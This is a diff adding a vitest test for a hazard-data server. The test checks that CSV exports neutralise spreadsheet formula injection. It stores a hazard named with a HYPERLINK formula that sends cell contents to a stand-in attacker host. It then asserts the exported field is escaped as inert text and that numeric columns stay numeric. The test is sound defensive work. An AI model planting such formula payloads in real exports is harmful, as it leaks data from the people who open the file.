@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { mustRun } from '../../server/src/db/local-postgis.install.js';
+import { hazardFeature } from '../helpers/features.js';
 import { FIXTURES, uploadFixture } from '../helpers/imports.js';
 import { type TestApp, startTestApp } from '../helpers/test-app.js';
 import { testFetch } from '../helpers/http.js';
@@ -101,5 +102,35 @@ describe('exports of a filtered selection', () => {
 
   it('rejects an unknown format with 400', async () => {
     expect((await download('format=xlsx')).response.status).toBe(400);
+  });
+});
+
+describe('CSV formula injection', () => {
+  it('a hazard named like a spreadsheet formula exports as inert text; numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")';
+    const square = [
+      [
+        [103.3, 19.6],
+        [103.31, 19.6],
+        [103.31, 19.61],
+        [103.3, 19.61],
+        [103.3, 19.6],
+      ],
+    ];
+    const created = await app.api('POST', '/api/v1/hazards', {
+      token,
+      body: hazardFeature({ type: 'Polygon', coordinates: square }, { name, external_ref: 'LAO-F-001' }),
+    });
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    const { body } = await download('country=LAO&format=csv');
+    const [header, ...rows] = body.toString('utf8').trimEnd().split(/\r?\n/);
+    const row = rows.find((line) => line.includes('LAO-F-001'))!;
+    expect(row).toContain(`"'${name.replace(/"/g, '""')}"`);
+    // No field of any row starts like a formula (a field may be quoted).
+    for (const line of rows) expect(line).not.toMatch(/(^|,)"?[=+@]/);
+    expect(header).toMatch(/,area_m2,remaining_m2,synthetic$/);
+    const [area, remaining] = row.split(',').slice(-3);
+    expect(area).toMatch(/^\d+(\.\d+)?$/);
+    expect(remaining).toMatch(/^\d+(\.\d+)?$/);
   });
 });
